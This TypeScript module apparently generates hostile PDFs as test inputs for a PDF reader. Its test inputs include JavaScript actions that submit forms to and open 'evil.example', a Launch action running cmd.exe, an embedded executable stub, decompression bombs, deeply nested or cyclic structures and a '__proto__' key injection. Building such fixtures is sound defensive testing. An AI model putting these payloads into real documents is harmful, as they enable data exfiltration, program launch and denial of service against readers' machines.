import { deflateSync } from 'node:zlib';
import type { Random } from '../../seed/random.ts';

/** PDFs that mean harm, made in code: what a reader of PDFs was ever brought down with. No two of a kind are alike. */

/** A file, and what to call it when it does what it should not. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
}

type Make = (random: Random) => Buffer | string;

const END = '\nstartxref\n0\n%%EOF\n';
const object = (number: number, content: string) => `${number} 0 obj\n${content}\nendobj\n`;
const PAGES =
  object(2, '<</Type/Pages/Kids[3 0 R]/Count 1>>') +
  object(3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>');

/** A PDF of one page with these entries in its catalog and these objects beside it. */
const onePage = (catalog = '', objects = '') =>
  `%PDF-1.7\n${object(1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`)}${PAGES}${objects}trailer<</Root 1 0 R/Size 9>>${END}`;

function packed(dict: string, content: Buffer | string, level = 9): Buffer {
  const bytes = deflateSync(content, { level });
  return Buffer.concat([
    Buffer.from(`5 0 obj\n<<${dict}/Filter/FlateDecode/Length ${bytes.length}>>stream\n`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}

/** An object stream that unpacks to so many bytes, in the middle of a PDF that is else in order. */
function bomb(bytes: number, filler: number): Buffer {
  const head = `%PDF-1.7\n${object(1, '<</Type/Catalog/Pages 2 0 R>>')}${PAGES}`;
  const content = Buffer.concat([Buffer.from('4 0 <</Type/Page>> '), Buffer.alloc(bytes, filler)]);
  return Buffer.concat([
    Buffer.from(head),
    packed('/Type/ObjStm/N 1/First 4', content),
    Buffer.from(`trailer<</Root 1 0 R>>${END}`),
  ]);
}

const script = (random: Random) =>
  `app.alert('${random.whole(0, 999)}');this.submitForm('https://evil.example/');app.launchURL('https://evil.example/',true)`;

/** What an opened document could be made to run or to load. */
const ACTIVE: Readonly<Record<string, Make>> = {
  'a script on opening': (random) =>
    onePage(
      `/OpenAction<</S/JavaScript/JS(${script(random).replaceAll('(', '\\(').replaceAll(')', '\\)')})>>`,
    ),
  'a named script': (random) =>
    onePage(
      '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>',
      object(4, `<</S/JavaScript/JS<${Buffer.from(script(random)).toString('hex')}>>>`),
    ),
  'a program to launch': (random) =>
    onePage(`/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc ${random.whole(0, 99)})>>>>`),
  'an address on opening': (random) =>
    onePage(`/OpenAction<</S/URI/URI(https://evil.example/${random.whole(0, 99)})>>`),
  'a form that sends itself': (random) =>
    onePage(
      `/AcroForm<</Fields[]/XFA(<xdp><script>${script(random)}</script></xdp>)>>/AA<</WC<</S/SubmitForm/F(https://evil.example/)>>>>`,
    ),
  'an embedded program': (random) =>
    onePage(
      '/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>',
      object(4, `<</Type/Filespec/F(a${random.whole(0, 99)}.exe)/EF<</F 5 0 R>>>>`) +
        object(5, '<</Length 2>>stream\nMZ\nendstream'),
    ),
  'a page of the web behind it': (random) => `<html><script>${script(random)}</script></html>${onePage()}`,
  'a font matrix that is a program': (random) =>
    onePage(
      '',
      object(
        4,
        `<</Type/Font/Subtype/Type1/FontMatrix[1 2 3 4 5 (0\\); alert\\(${random.whole(0, 99)}\\)//)]/BaseFont/A>>`,
      ),
    ),
};

/** What a reader works itself to death on. */
const HEAVY: Readonly<Record<string, Make>> = {
  'objects that unpack to hundreds of megabytes': (random) => bomb(random.whole(32, 256) * 1024 * 1024, 0x20),
  'objects that unpack to a long number': (random) => bomb(random.whole(17, 64) * 1024 * 1024, 0x31),
  'a table of references that unpacks to a lot': (random) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      packed('/Type/XRef/W[1 4 2]/Size 9999999/Root 1 0 R', Buffer.alloc(random.whole(17, 90) * 1024 * 1024)),
      Buffer.from(END),
    ]),
  'packed twice': (random) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      (() => {
        const inner = deflateSync(Buffer.alloc(random.whole(40, 200) * 1024 * 1024, 0x20));
        const twice = deflateSync(inner);
        return Buffer.concat([
          Buffer.from(
            `5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length ${twice.length}>>stream\n`,
          ),
          twice,
          Buffer.from('\nendstream\nendobj\n'),
        ]);
      })(),
      Buffer.from(`trailer<</Root 1 0 R>>${END}`),
    ]),
  'run lengths without end': (random) => {
    const runs = Buffer.alloc(random.whole(1, 3) * 1024 * 1024, 0x81);
    return Buffer.concat([
      Buffer.from(
        `%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/RunLengthDecode/Length ${runs.length}>>stream\n`,
      ),
      runs,
      Buffer.from(`\nendstream\nendobj\ntrailer<</Root 1 0 R>>${END}`),
    ]);
  },
  'brackets in brackets': (random) => {
    const deep = random.whole(5000, 2_000_000);
    return `%PDF-1.7\n1 0 obj${'['.repeat(deep)}${']'.repeat(deep)}endobj\ntrailer<</Root 1 0 R>>${END}`;
  },
  'dictionaries in dictionaries': (random) =>
    `%PDF-1.7\n1 0 obj${'<</A'.repeat(random.whole(5000, 800_000))}\nendobj\ntrailer<</Root 1 0 R>>${END}`,
  'objects that begin and never end': (random) =>
    `%PDF-1.7\n${'1 0 obj<<'.repeat(random.whole(20_000, 900_000))}\n%%EOF`,
  'streams that begin and never end': (random) =>
    `%PDF-1.7\n${'1 0 obj<</Length 9>>stream\n'.repeat(random.whole(10_000, 300_000))}\n%%EOF`,
  'hundreds of thousands of objects': (random) =>
    `%PDF-1.7\n${Array.from({ length: random.whole(50_000, 280_000) }, (_, n) => object(n + 1, '<</A[1 2 3]>>')).join('')}trailer<</Root 1 0 R>>${END}`,
  'a string of ten million letters': (random) =>
    onePage(`/Lang(${'a'.repeat(random.whole(1_000_000, 9_000_000))})`),
  'strings in strings': (random) => onePage(`/Lang(${'('.repeat(random.whole(10_000, 3_000_000))}`),
  'a name of millions of letters': (random) =>
    onePage(`/${'#41'.repeat(random.whole(100_000, 2_000_000))} 1`),
  'comments only': (random) => `%PDF-1.7\n${'%\n'.repeat(random.whole(100_000, 4_000_000))}%%EOF`,
};

/** What points where it should not, and what says other than it is. */
const CROOKED: Readonly<Record<string, Make>> = {
  'pages that are their own parent': (random) =>
    `%PDF-1.7\n${object(1, '<</Type/Catalog/Pages 2 0 R>>')}${object(2, `<</Type/Pages/Kids[${'2 0 R '.repeat(random.whole(1, 30))}]/Count 1>>`)}trailer<</Root 1 0 R>>${END}`,
  'pages that lead in a circle': (random) => {
    const length = random.whole(2, 60);
    const circle = Array.from({ length }, (_, n) =>
      object(n + 2, `<</Type/Pages/Kids[${((n + 1) % length) + 2} 0 R]/Count 1>>`),
    );
    return `%PDF-1.7\n${object(1, '<</Type/Catalog/Pages 2 0 R>>')}${circle.join('')}trailer<</Root 1 0 R>>${END}`;
  },
  'pages that double at every step': (random) => {
    const steps = random.whole(20, 60);
    const tree = Array.from({ length: steps }, (_, n) =>
      object(n + 2, `<</Type/Pages/Kids[${n + 3} 0 R ${n + 3} 0 R]/Count 2>>`),
    );
    return `%PDF-1.7\n${object(1, '<</Type/Catalog/Pages 2 0 R>>')}${tree.join('')}${object(steps + 2, '<</Type/Page/MediaBox[0 0 9 9]>>')}trailer<</Root 1 0 R>>${END}`;
  },
  'a deep tree of pages': (random) => {
    const steps = random.whole(2000, 40_000);
    const tree = Array.from({ length: steps }, (_, n) =>
      object(n + 2, `<</Type/Pages/Kids[${n + 3} 0 R]/Count 1>>`),
    );
    return `%PDF-1.7\n${object(1, '<</Type/Catalog/Pages 2 0 R>>')}${tree.join('')}trailer<</Root 1 0 R>>${END}`;
  },
  'a length that points at itself': (random) =>
    onePage('', object(4, `<</Length 4 0 R>>stream\n${'x'.repeat(random.whole(1, 5000))}\nendstream`)),
  'a length of billions': (random) =>
    onePage('', object(4, `<</Length ${random.whole(1, 2_000_000_000)}999>>stream\nx\nendstream`)),
  'numbers out of every range': (random) =>
    onePage(
      `/A ${'9'.repeat(random.whole(20, 5000))} /B -${'9'.repeat(400)}.${'9'.repeat(400)} /C 1e999`,
      object(4_294_967_295, '<<>>'),
    ),
  'a root that is not there': (random) =>
    `%PDF-1.7\n${PAGES}trailer<</Root ${random.whole(10, 99_999)} 0 R>>${END}`,
  'an object stream that holds itself': (random) =>
    Buffer.concat([
      Buffer.from(onePage().slice(0, -END.length)),
      packed(`/Type/ObjStm/N ${random.whole(1, 2_000_000)}/First 4/Extends 5 0 R`, '5 0 <</Type/ObjStm>>'),
      Buffer.from(END),
    ]),
  'a prototype for a key': (random) =>
    onePage(
      `/__proto__<</isPage true/n ${random.whole(0, 99)}>>/constructor 1/toString(x)/hasOwnProperty null`,
    ),
  'bytes by chance': (random) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      Buffer.from(Array.from({ length: random.whole(10, 20_000) }, () => random.whole(0, 255))),
      Buffer.from('\n%%EOF'),
    ]),
  'an ordinary one with some bytes changed': (random) => {
    const bytes = Buffer.from(onePage('/Lang(en)', object(4, '<</Length 9>>stream\nBT ET q Q\nendstream')));
    for (let n = random.whole(1, 40); n > 0; n -= 1)
      bytes[random.whole(9, bytes.length - 8)] = random.whole(0, 255);
    return bytes;
  },
  'an ordinary one cut off': (random) => {
    const whole = onePage('/Lang(en)');
    return `${whole.slice(0, random.whole(10, whole.length - 20))}\n%%EOF`;
  },
  'a lock that is none': (random) =>
    onePage('', '').replace(
      'trailer<<',
      `trailer<</Encrypt<</Filter/Standard/V ${random.whole(-9, 99)}/R ${random.whole(-9, 99)}/O(x)/U(x)/P 0>>`,
    ),
};

const KINDS = { ...ACTIVE, ...HEAVY, ...CROOKED };
export const HOSTILE_PDF_KINDS = Object.keys(KINDS);

/** The hostile PDF of that number: the kinds in turn, each time another one. */
export function hostilePdf(number: number, random: Random): HostileFile {
  return hostileOf(KINDS, number, random);
}

/** One of these kinds, in turn. */
export function hostileOf(
  kinds: Readonly<Record<string, Make>>,
  number: number,
  random: Random,
): HostileFile {
  const names = Object.keys(kinds);
  const name = names[number % names.length] ?? '';
  const made = kinds[name]?.(random) ?? '';
  return { name, bytes: typeof made === 'string' ? Buffer.from(made, 'latin1') : made };
}
